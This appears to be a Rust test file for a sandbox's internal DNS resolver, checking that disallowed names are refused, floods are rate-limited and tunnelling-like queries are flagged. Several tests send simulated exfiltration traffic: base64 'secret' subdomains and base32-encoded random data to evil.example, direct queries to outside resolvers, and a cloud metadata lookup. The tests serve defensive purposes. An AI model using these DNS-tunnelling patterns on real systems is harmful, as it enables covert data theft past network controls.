//! The resolver inside: what it answers, what it forwards, and what it makes of odd questions (NET-6).

use serde_json::Value;

use crate::egress_support::Net;

/// Asks the resolver inside directly and prints its answers, one a line: the code, then the addresses.
/// Standard modules only: the image of a sandbox has no `dig`.
const ASK: &str = r#"
import socket, struct, sys
def ask(name, kind, over='udp', server='198.18.0.1', port=53, option=None):
    labels = b''.join(bytes([len(l)]) + l.encode() for l in name.split('.') if l) + b'\0'
    packet = struct.pack('>HHHHHH', 7, 0x100, 1, 0, 0, option is not None) + labels + struct.pack('>HH', kind, 1)
    asked = len(packet)
    if option is not None:
        edns = struct.pack('>HH', 65001, len(option)) + option
        packet += b'\0' + struct.pack('>HHIH', 41, 1232, 0, len(edns)) + edns
    if over == 'udp':
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(10)
        s.sendto(packet, (server, port)); answer = s.recv(4096)
    else:
        s = socket.create_connection((server, port), 10)
        s.sendall(struct.pack('>H', len(packet)) + packet)
        length, = struct.unpack('>H', s.recv(2)); answer = b''
        while len(answer) < length: answer += s.recv(length - len(answer))
    flags, _, count = struct.unpack('>HHH', answer[2:8])
    found, at = [], asked
    for _ in range(count):
        while answer[at] and answer[at] < 192: at += answer[at] + 1
        at += 2 if answer[at] >= 192 else 1
        kind, _, _, size = struct.unpack('>HHIH', answer[at:at + 10]); at += 10
        data = answer[at:at + size]; at += size
        found.append(socket.inet_ntop(socket.AF_INET if size == 4 else socket.AF_INET6, data) if kind in (1, 28) else kind)
    return [flags & 15, *found]
A, TXT, AAAA, HTTPS, PTR = 1, 16, 28, 65, 12
NULL, ANY, AXFR = 10, 255, 252
"#;
const NO_ERROR: &str = "0";
const NAME_ERROR: &str = "3";
const REFUSED: &str = "5";

fn ask(net: &Net, flags: &[&str], script: &str) -> Vec<String> {
    // Where somebody could be asked, a name that no rule names has an address too, to be asked about.
    let flags = [&["--on-ask", "deny"], flags].concat();
    let output = net.python(&flags, &format!("{ASK}\n{script}"));
    output.assert_code(0);
    output.out().lines().map(str::to_owned).collect()
}

/// Proves: NET-6 allowed-names
#[test]
fn an_allowed_name_stands_for_an_address_of_ours() {
    let net = Net::new();
    let lines = ask(
        &net,
        &["--allow-host", "web.example"],
        "for kind in (A, AAAA):\n\
         \x20 for over in ('udp', 'tcp'): print(*ask('Web.Example.', kind, over))\n\
         print(*ask('web.example', A, server='203.0.113.53'))\n\
         print(*ask('web.example', A, 'tcp', server='192.0.2.77'))\n",
    );
    let [four, four_again, six, six_again, elsewhere, anywhere] = lines.as_slice() else {
        panic!("{lines:?}")
    };
    assert!(four.starts_with("0 198.1"), "{four}");
    assert!(six.starts_with("0 fd53:"), "{six}");
    assert_eq!((four, six), (four_again, six_again), "a name keeps its address");
    assert_eq!((four, four), (elsewhere, anywhere), "every resolver is this one");
}

/// Proves: NET-6 allowed-names, NET-6 logged
#[test]
fn nothing_of_a_name_that_is_not_allowed_leaves_the_machine() {
    let net = Net::new();
    let lines = ask(
        &net,
        &["--allow-host", "web.example"],
        "print(*ask('other.example', A)); print(*ask('c2VjcmV0.evil.example', A))\n\
         print(*ask('c2VjcmV0.evil.example', TXT, 'tcp', server='203.0.113.53'))\n\
         print(*ask('missing.web.example', A)); print(*ask('metadata.google.internal', A))\n",
    );
    assert_eq!(lines, [NAME_ERROR; 5]);
    assert!(net.lab.journal().is_empty(), "{:#?}", net.lab.journal());
}

/// Proves: NET-6 allowed-names
#[test]
fn other_records_of_an_allowed_name_are_empty_and_not_an_error() {
    let net = Net::new();
    let lines = ask(
        &net,
        &["--allow-host", "*.example", "--deny-host", "other.example"],
        "print(*ask('web.example', HTTPS)); print(*ask('web.example', TXT))\n\
         for kind in (NULL, ANY, AXFR): print(*ask('c2VjcmV0.web.example', kind, 'tcp'))\n\
         print(*ask('nowhere.example', A)); print(*ask('localhost', A))\n",
    );
    assert_eq!(lines[..5], [NO_ERROR; 5]);
    assert_eq!(lines[5..], [NAME_ERROR, "0 127.0.0.1"]);
    let is_address = |entry: &Value| entry["record"] == "A" || entry["record"] == "AAAA";
    assert!(net.lab.journal().iter().all(is_address), "{:#?}", net.lab.journal());
    assert!(!net.lab.asked_for("c2vjcmv0.web.example"), "{:#?}", net.lab.journal());
}

/// Proves: NET-3 special-addresses, NET-4 pinned
#[test]
fn a_name_that_stands_for_a_private_address_is_refused() {
    let net = Net::new();
    let lines = ask(
        &net,
        &["--allow-host", "*.example"],
        "for name in ('private', 'metadata', 'loopback', 'mixed', 'local', 'translated', 'teredo'):\n\
         \x20 for kind in (A, AAAA): print(*ask(name + '.example', kind))\n",
    );
    // Whichever record is asked for: the name is refused, not one of its addresses.
    assert!(lines.iter().all(|line| line == REFUSED || line == NAME_ERROR), "{lines:?}");
}

/// Proves: NET-6 rate
#[test]
fn a_flood_of_questions_is_refused_and_an_honest_one_answered_later() {
    let net = Net::new();
    let lines = ask(
        &net,
        &["--allow-host", "web.example"],
        "import time\n\
         codes = [ask(f'n{i}.evil.example', A)[0] for i in range(600)]\n\
         print(3 in codes, 5 in codes)\n\
         end = time.time() + 10\n\
         while ask('web.example', A)[0] != 0 and time.time() < end: time.sleep(0.05)\n\
         print(*ask('web.example', HTTPS))\n",
    );
    assert_eq!(lines, ["True True", NO_ERROR]);
    assert!(!net.lab.asked_for("evil.example"), "{:#?}", net.lab.journal());
}

/// Proves: NET-6 tunnelling, NET-6 logged
#[test]
fn names_that_look_like_data_are_told() {
    let net = Net::new();
    let lines = ask(
        &net,
        &["--allow-host", "*.evil.example"],
        "import base64, os\n\
         for _ in range(80):\n\
         \x20 data = base64.b32encode(os.urandom(35)).decode().lower().rstrip('=')\n\
         \x20 ask(data[:50] + '.evil.example', A)\n\
         print('sent')\n",
    );
    assert_eq!(lines, ["sent"]);
    let queries = net.events("NAME_QUERIED");
    assert!(queries.iter().any(|event| event.to_string().contains("suspicion")), "{queries:#?}");
}

/// Proves: NET-6 allowed-names
#[test]
fn what_is_no_question_gets_no_answer_and_breaks_nothing() {
    let net = Net::new();
    let lines = ask(
        &net,
        &["--allow-host", "web.example"],
        "import os\n\
         s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n\
         for size in (0, 1, 11, 12, 17, 512, 4000):\n\
         \x20 for _ in range(20): s.sendto(os.urandom(size), ('198.18.0.1', 53))\n\
         t = socket.create_connection(('198.18.0.1', 53), 10); t.sendall(b'\\xff\\xff' + os.urandom(1000)); t.close()\n\
         print(ask('web.example', A)[0])\n",
    );
    assert_eq!(lines, [NO_ERROR]);
}

/// The rule is about the name that was asked for: whatever it is an alias of is not looked up by itself.
///
/// Proves: NET-4 pinned
#[test]
fn a_name_may_be_an_alias_of_an_alias() {
    let net = Net::new();
    let script = "for host in alias-of-alias web; do \
        curl -s -o /dev/null -w \"$host %{http_code}\\n\" --noproxy '*' --max-time 10 http://$host.example/; done";
    let output = net.script(&["--allow-host", "alias-of-alias.example"], script);
    assert_eq!(output.out(), "alias-of-alias 200\nweb 403\n", "{}", output.err());
}

/// Proves: NET-6 allowed-names
#[test]
fn a_query_may_be_as_long_as_the_protocol_has_it() {
    let net = Net::new();
    let lines = ask(
        &net,
        &["--allow-host", "web.example"],
        "print(ask('web.example', A, option=b'x' * 400)[0])\n\
         longest = '.'.join(['a' * 60] * 4)[:253 - len('.evil.example')] + '.evil.example'\n\
         print(len(longest), ask(longest, A)[0], ask('b' * 63 + '.' + longest, A)[0])\n\
         print(ask('web.example', A)[0])\n",
    );
    // A name of more than 253 characters is no name.
    assert_eq!(lines, ["0", "253 3 1", "0"]);
    assert!(!net.lab.asked_for("evil.example"), "{:#?}", net.lab.journal());
}

/// Proves: NET-4 pinned
#[test]
fn aliases_without_end_lead_nowhere_and_keep_nobody_waiting() {
    let net = Net::new();
    let lines = ask(
        &net,
        &["--allow-host", "*.example", "--allow-host", "*.chain.example"],
        "import time\n\
         began = time.monotonic()\n\
         print(ask('ring.example', A)[0] in (2, 3))\n\
         print(ask('1.chain.example', A)[0] in (0, 2))\n\
         print(time.monotonic() - began < 5)\n\
         print(ask('web.example', A)[0])\n",
    );
    assert_eq!(lines, ["True", "True", "True", NO_ERROR]);
}

/// Proves: NET-3 block-list, NET-7 summary
#[test]
fn an_alias_of_a_denied_host_is_told_with_its_rule() {
    let net = Net::new();
    let flags = ["--allow-host", "*.example", "--deny-host", "evil.example"];
    let script = "for way in '' '*'; do \
        curl -sS -o /dev/null -w '%{http_code}\\n' --noproxy \"$way\" --max-time 10 http://alias-of-evil.example/; done";
    let output = net.script(&flags, script);
    assert_eq!(output.out(), "403\n000\n", "{}", output.err());
    let told = "an alias of evil.example, which is denied by `evil.example`";
    assert!(output.err().contains(told), "{}", output.err());
    assert!(!net.lab.connected("203.0.113.66:"), "{:#?}", net.lab.journal());
}

/// Programs go on without it then (QUIC, DNS over TLS).
///
/// Proves: NET-7 refusals, NET-5 datagrams
#[test]
fn other_ways_to_look_up_and_to_connect_are_refused_at_once() {
    let net = Net::new();
    let output = net.python(
        &["--allow-host", "web.example"],
        "import socket, time\n\
         began = time.monotonic()\n\
         def failed(act):\n\
         \x20 try: act(); print('passed')\n\
         \x20 except OSError as error: print(error.__class__.__name__)\n\
         def datagram(place):\n\
         \x20 s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(9); s.connect(place); s.send(b'x' * 1200); s.recv(1)\n\
         def stream(place):\n\
         \x20 s = socket.create_connection(place, 9); s.sendall(b'\\x16\\x03\\x01'); s.recv(1) or failed_quietly()\n\
         def failed_quietly(): raise ConnectionResetError\n\
         failed(lambda: datagram((socket.gethostbyname('web.example'), 443)))\n\
         failed(lambda: datagram(('203.0.113.10', 443)))\n\
         failed(lambda: datagram(('203.0.113.53', 853)))\n\
         failed(lambda: stream(('web.example', 853)))\n\
         failed(lambda: stream(('203.0.113.53', 853)))\n\
         print(time.monotonic() - began < 4)\n",
    );
    let lines: Vec<String> = output.out().lines().map(str::to_owned).collect();
    assert_eq!(lines.len(), 6, "{}{}", output.out(), output.err());
    assert!(!lines.contains(&"passed".to_owned()), "{lines:?}");
    assert_eq!(lines[5], "True", "{lines:?}");
    assert!(!net.lab.saw(|entry| entry["kind"] == "udp"), "{:#?}", net.lab.journal());
}
